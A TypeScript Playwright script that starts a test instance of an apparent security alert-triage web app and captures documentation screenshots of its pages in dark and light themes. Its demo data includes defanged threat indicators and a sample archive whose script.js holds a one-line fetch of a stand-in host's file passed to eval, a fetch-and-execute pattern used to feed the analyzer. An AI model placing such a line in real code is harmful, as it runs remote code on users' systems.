import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BlobWriter, TextReader, ZipWriter } from '@zip.js/zip.js';
import type { Browser, Page } from 'playwright-core';
import { readArguments } from '../../scripts/script-arguments.ts';
import { startTestProgram, type TestProgram } from '../../src/testing/start-test-program.ts';
import { builtInterface, launchBrowser, openContext } from './browser.ts';

const USAGE = `Usage: npm run screenshots -- [--folder FOLDER] [--only TEXT]

Draws every page of the web interface with the alerts of the demo, in both themes, as NAME-THEME.webp.

  --folder FOLDER   where the pictures go (default docs/images); without --only, earlier ones are removed
  --only TEXT       only the pictures whose name holds this`;

const PASTED = `Received: from mail.example.org (192.0.2.7) by mx.example.com
The macro loads hxxps://login.example[.]org/update.bin (44d88612fea8a8f36de82e1278abb02f)
and then connects to 198.51.100.23 every 60 seconds.`;

const WINDOW = { width: 1280, height: 720 };
const PHONE = { width: 390, height: 844 };

/** A page to draw. Without steps of its own, each of its tabs becomes a picture. */
interface Shot {
  readonly name: string;
  readonly address: string;
  readonly steps?: (page: Page) => Promise<void>;
  readonly size?: typeof WINDOW;
}

const { values } = readArguments(USAGE, { folder: { type: 'string' }, only: { type: 'string' } });
const folder = values.folder ?? join(import.meta.dirname, '..', '..', 'docs', 'images');
const only = values.only ?? '';
mkdirSync(folder, { recursive: true });
if (only === '') {
  for (const file of readdirSync(folder)) if (file.endsWith('.webp')) rmSync(join(folder, file));
}
const program = await startTestProgram({ demo: 'all', settings: { 'web.ui_folder': builtInterface() } });
const browser = await launchBrowser();
try {
  await submitZip(browser, program);
  const shots = await shotsOf(program);
  for (const theme of ['dark', 'light'] as const) await drawAll(browser, shots, theme);
} finally {
  await Promise.all([browser.close(), program.close()]);
}

async function drawAll(browser: Browser, shots: readonly Shot[], theme: 'dark' | 'light'): Promise<void> {
  await using watched = await openContext(browser, { baseURL: program.urls.web, theme, reducedMotion: 'reduce' });
  const { page } = watched;
  const draw = async (name: string) => {
    if (!name.includes(only)) return;
    await settle(page);
    await writePicture(page, `${name}-${theme}`);
  };
  await page.goto('/');
  await page.getByLabel('User name').waitFor();
  await draw('sign-in');
  await signIn(page);
  // The pages of the rail are found there, so that a new one is drawn without being named here.
  const links = await page.getByRole('navigation').first().getByRole('link').all();
  const addresses = await Promise.all(links.map((link) => link.getAttribute('href')));
  const pages: Shot[] = addresses.map((address) => ({ name: nameOf(address ?? '/'), address: address ?? '/' }));
  for (const { name, address, steps, size = WINDOW } of [...pages, ...shots]) {
    if (!name.includes(only) && !only.startsWith(name)) continue;
    await page.setViewportSize(size);
    await page.goto(address);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await settle(page);
    await steps?.(page);
    const tabs = steps === undefined ? page.getByRole('tablist').first().getByRole('tab') : undefined;
    const count = (await tabs?.count()) ?? 0;
    if (count === 0) await draw(name);
    for (let index = 0; index < count; index += 1) {
      const tab = tabs?.nth(index);
      await tab?.click();
      await draw(`${name}-${nameOf((await tab?.textContent()) ?? '')}`);
    }
  }
}

/** Waits until a page shows what it asked for. A tab asks after it was opened, without a navigation. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState('networkidle');
  await page.waitForTimeout(300);
  await page
    .getByText(/^Loading/)
    .first()
    .waitFor({ state: 'hidden' });
}

/** Writes the window of a page as WebP, a fifth of the size of PNG. */
async function writePicture(page: Page, name: string): Promise<void> {
  const session = await page.context().newCDPSession(page);
  const { data } = await session.send('Page.captureScreenshot', { format: 'webp', quality: 80 });
  await session.detach();
  writeFileSync(join(folder, `${name}.webp`), Buffer.from(data, 'base64'));
  console.log(name);
}

async function signIn(page: Page): Promise<void> {
  await page.getByLabel('User name').fill('admin');
  await page.getByLabel('Password', { exact: true }).fill('admin');
  await page.keyboard.press('Enter');
  await page.getByRole('navigation').first().waitFor();
}

/** Returns the name of a picture for an address or the words of a tab, without counts. */
function nameOf(words: string): string {
  const name = words
    .toLowerCase()
    .replace(/\d+$/, '')
    .replaceAll(/[^a-z]+/g, '-');
  return name.replaceAll(/^-|-$/g, '') || 'home';
}

/** Returns the pages that no entry of the rail leads to: open objects, editors, menus, a small screen. */
async function shotsOf(program: TestProgram): Promise<Shot[]> {
  const first = async (index: string, ...path: readonly string[]): Promise<string> => {
    const json = { query: `_exists_:${path.join('.')}`, rows: 1 };
    const basic = 'admin:devkey:admin';
    const { json: answer } = await program.request(`/api/v1/search/${index}`, { method: 'POST', basic, json });
    return path.reduce((value, member) => value[member], answer.api_response.items[0]);
  };
  const worst = '/alerts?q=howler.status%3Aopen&sort=event.severity%20desc';
  const openFirst = async (page: Page) => {
    await page.getByRole('grid').waitFor();
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.getByRole('tablist').first().waitFor();
  };
  const press = (keys: string) => async (page: Page) => {
    await openFirst(page);
    await settle(page);
    await page.keyboard.press(keys);
  };
  return [
    { name: 'alert-open', address: worst, steps: openFirst },
    { name: 'alert-assess', address: worst, steps: press('a') },
    { name: 'alert-file-into-case', address: worst, steps: press('m') },
    { name: 'key-help', address: worst, steps: press('?') },
    { name: 'palette', address: worst, steps: press('Control+k') },
    { name: 'phone-alerts', address: '/alerts', size: PHONE, steps: (page) => page.getByRole('grid').waitFor() },
    { name: 'phone-alert', address: worst, size: PHONE, steps: openFirst },
    { name: 'alert', address: `/alerts/${await first('hit', 'howler', 'id')}` },
    { name: 'case', address: `/cases/${await first('case', 'case_id')}` },
    { name: 'analytic', address: `/analytics/${await first('analytic', 'analytic_id')}` },
    { name: 'view-editor', address: `/views?id=${await first('view', 'view_id')}` },
    { name: 'action-editor', address: `/actions?id=${await first('action', 'action_id')}` },
    { name: 'template-editor', address: `/templates?id=${await first('template', 'template_id')}` },
    { name: 'overview-editor', address: `/overviews?id=${await first('overview', 'overview_id')}` },
    { name: 'dossier-editor', address: `/dossiers?id=${await first('dossier', 'dossier_id')}` },
    {
      name: 'report',
      address: '/files',
      steps: async (page) => {
        await page.getByRole('grid').getByRole('row').nth(1).dblclick();
        await page.getByRole('treeitem').first().waitFor();
      },
    },
    {
      name: 'look-up',
      address: '/enrichment',
      steps: async (page) => {
        await page.getByRole('textbox').fill(PASTED);
        await page.keyboard.press('Control+Enter');
        await page.locator('mark').first().waitFor();
      },
    },
  ];
}

/** Submits an archive as a person does, and waits for its report. */
async function submitZip(browser: Browser, program: TestProgram): Promise<void> {
  const zip = new ZipWriter(new BlobWriter('application/zip'));
  await zip.add('invoice.txt', new TextReader(PASTED));
  await zip.add('script.js', new TextReader('fetch("https://login.example.org/update.bin").then(eval)'));
  const buffer = Buffer.from(await (await zip.close()).arrayBuffer());
  await using watched = await openContext(browser, { baseURL: program.urls.web });
  const { page } = watched;
  await page.goto('/files');
  await signIn(page);
  await page.locator('input[type=file]').setInputFiles({ name: 'invoice.zip', mimeType: 'application/zip', buffer });
  await page.getByText('Completed', { exact: true }).waitFor();
}
